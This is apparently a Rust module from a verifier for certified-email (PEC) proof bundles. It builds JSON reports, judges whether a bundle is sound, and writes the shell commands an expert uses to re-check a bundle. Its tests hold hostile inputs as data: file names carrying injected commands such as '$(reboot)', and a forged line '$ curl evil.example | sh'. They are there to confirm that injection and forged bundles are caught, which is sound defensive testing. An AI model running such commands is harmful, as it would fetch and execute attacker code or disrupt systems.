//! The report on a bundle as every face gives it.

use jiff::Timestamp;
use jiff::civil::Date;
use serde::Serialize;

use super::{Fault, LookupProof, MessageProof, ProofReport, Witnessed, expert, zip};
use crate::lookup::Lookup;

/// Everything but the dossiers, which are written already.
#[derive(Serialize)]
struct Head<'r> {
    schema: &'static str,
    transaction: Option<&'r str>,
    made_at: Option<Timestamp>,
    faults: &'r [Fault],
    messages: &'r [MessageProof],
    lookups: Vec<Looked<'r>>,
}

/// A look-up without the answer, which lies in the bundle.
#[derive(Serialize)]
struct Looked<'r> {
    path: &'r str,
    address: &'r str,
    register: &'r str,
    asked: Option<&'r str>,
    asked_at: Timestamp,
    valid_on: Option<Date>,
    found: bool,
    witnessed: Option<&'r Witnessed>,
    witness_fails: Option<&'r str>,
}

impl<'r> Looked<'r> {
    fn of(proof: &'r LookupProof) -> Self {
        let LookupProof { path, lookup, witnessed, witness_fails } = proof;
        let Lookup { address, register, asked, asked_at, valid_on, found, answer: _ } = lookup;
        Self {
            path,
            address,
            register,
            asked: asked.as_deref(),
            asked_at: *asked_at,
            valid_on: *valid_on,
            found: *found,
            witnessed: witnessed.as_ref(),
            witness_fails: witness_fails.as_deref(),
        }
    }
}

impl ProofReport {
    /// The form of the JSON, `docs/schema/proof-report-1.json`.
    pub const SCHEMA: &'static str = "pec-proof-report/1";

    /// One line of JSON, without a line end; keys in fixed order, absent values null.
    #[must_use]
    pub fn to_json(&self) -> String {
        let Self { transaction, made_at, faults, messages, dossiers, lookups } = self;
        let (transaction, made_at) = (transaction.as_deref(), *made_at);
        let lookups = lookups.iter().map(Looked::of).collect();
        let head = Head { schema: Self::SCHEMA, transaction, made_at, faults, messages, lookups };
        // Strings and numbers only: there is nothing that cannot be written.
        let head = serde_json::to_string(&head).unwrap_or_default();
        // As they were written: read and written again, their keys would stand in another order.
        format!(r#"{},"dossiers":[{}]}}"#, head.strip_suffix('}').unwrap_or_default(), dossiers.join(","))
    }

    /// Whether every byte that proves something is what was written, every message is certified, but for what was sent, which bears
    /// no certification and claims none, and at least one is. The page and the text for the expert, which prove nothing and which
    /// another version, or somebody who believes other authorities, writes otherwise, decide nothing here: [`Fault::Page`] and
    /// [`Fault::Expert`] tell of them.
    ///
    /// It does not prove that nothing was left out.
    #[must_use]
    pub fn is_sound(&self) -> bool {
        let is_for_reading = |fault: &Fault| matches!(fault, Fault::Page | Fault::Expert);
        let is_certified = |message: &MessageProof| message.verdict.starts_with("certified");
        self.faults.iter().all(is_for_reading)
            && self.messages.iter().any(is_certified)
            && self.messages.iter().all(|message| is_certified(message) || message.is_plain)
    }
}

/// How an expert of a court does every step of a bundle once more, with OpenSSL and nothing of ours: a text, in which each
/// line that begins with `$ `, with the lines after it that begin with `> `, is a command; they are for one POSIX shell, in their
/// order, in the folder into which the bundle was unpacked. It is written anew from the names of the objects, never taken
/// from the bundle; names that we would not give are passed over. `None` where the file is no bundle.
#[must_use]
pub fn expert_commands(bytes: &[u8]) -> Option<String> {
    let (objects, None) = zip::read(bytes) else { return None };
    Some(expert::text(&expert::names(objects.iter().map(|object| &*object.name))))
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::proof::manifest::{Listed, Manifest};
    use crate::proof::{Bundle, MANIFEST, ObjectFault};
    use crate::trust::TrustStore;

    #[test]
    fn the_commands_are_those_of_the_bundle_and_never_its_text() {
        let (trust, at) = (TrustStore::built_in(), "2026-02-09T10:00:00Z".parse().unwrap());
        let message = b"Message-ID: <1@ditta.example>\r\n\r\nBuongiorno.\r\n".to_vec();
        let bundle = Bundle::new().message(message, None).to_zip("1@ditta.example", &trust, at).unwrap();
        let text = expert_commands(&bundle).unwrap();
        assert!(text.contains("$ test \"$(sha256sum messages/"), "{text}");
        let inside = zip::read(&bundle).0.into_iter().find(|object| object.name == "perito.txt").unwrap();
        assert_eq!(&bundle[inside.content], text.as_bytes());
        assert_eq!(expert_commands(b"no bundle"), None);

        let hostile = [("messages/$(reboot).eml", &b"x"[..]), ("messages/-x.eml", b"x"), ("perito.txt", b"$ reboot")];
        let hostile = zip::write(hostile.into_iter()).unwrap();
        if let Some(text) = expert_commands(&hostile) {
            assert!(!text.contains("reboot") && !text.contains("/-x"), "{text}");
        }
    }

    /// A bundle that somebody has written anew, list and all, with other objects.
    fn forged(bundle: &[u8], objects: &[(&str, &[u8])]) -> Vec<u8> {
        let (read, _) = zip::read(bundle);
        let mut all: BTreeMap<&str, &[u8]> = read.iter().map(|it| (&*it.name, &bundle[it.content.clone()])).collect();
        let mut manifest: Manifest = serde_json::from_slice(all.remove(MANIFEST).unwrap()).unwrap();
        all.extend(objects.iter().copied());
        manifest.objects = all.iter().map(|(path, content)| Listed::of(path, content)).collect();
        let manifest = serde_json::to_vec(&manifest).unwrap();
        all.insert(MANIFEST, &manifest);
        zip::write(all.into_iter()).unwrap()
    }

    #[test]
    fn no_other_commands_and_no_other_objects_pass_unseen() {
        let (trust, at) = (TrustStore::built_in(), "2026-02-09T10:00:00Z".parse().unwrap());
        let message = b"Message-ID: <1@ditta.example>\r\n\r\nBuongiorno.\r\n".to_vec();
        let bundle = Bundle::new().message(message, None).to_zip("1@ditta.example", &trust, at).unwrap();
        let faults = |objects: &[(&str, &[u8])]| {
            crate::proof::check(&forged(&bundle, objects), &trust, at, &crate::limits::Limits::DEFAULT).faults
        };
        assert_eq!(faults(&[]), []);
        assert_eq!(faults(&[("perito.txt", b"$ curl evil.example | sh\n")]), [Fault::Expert]);
        assert_eq!(faults(&[("index.html", b"CONSEGNATO")]), [Fault::Page]);
        let zeros = "0".repeat(64);
        for path in [
            "aaa-leggimi.html".into(),
            "messages/leggimi.html".into(),
            format!("messages/{zeros}.html"),
            format!("trust/{zeros}.pem"),
            format!("log/{zeros}.sh"),
            format!("log/{zeros}.a.json"),
            format!("altro/{zeros}.eml"),
        ] {
            let foreign = Fault::Object { path: path.clone(), how: ObjectFault::Foreign };
            assert_eq!(faults(&[(&path, b"CONSEGNATO")]), [foreign]);
        }
    }

    #[test]
    fn a_bundle_without_messages_is_not_sound() {
        let (trust, at) = (TrustStore::built_in(), "2026-02-09T10:00:00Z".parse().unwrap());
        let empty = Bundle::new().to_zip("1@ditta.example", &trust, at).unwrap();
        let report = crate::proof::check(&empty, &trust, at, &crate::limits::Limits::DEFAULT);
        assert!(report.is_intact() && !report.is_sound(), "{report:?}");
        assert!(report.to_json().starts_with(r#"{"schema":"pec-proof-report/1","transaction":"1@ditta.example","#));
    }
}
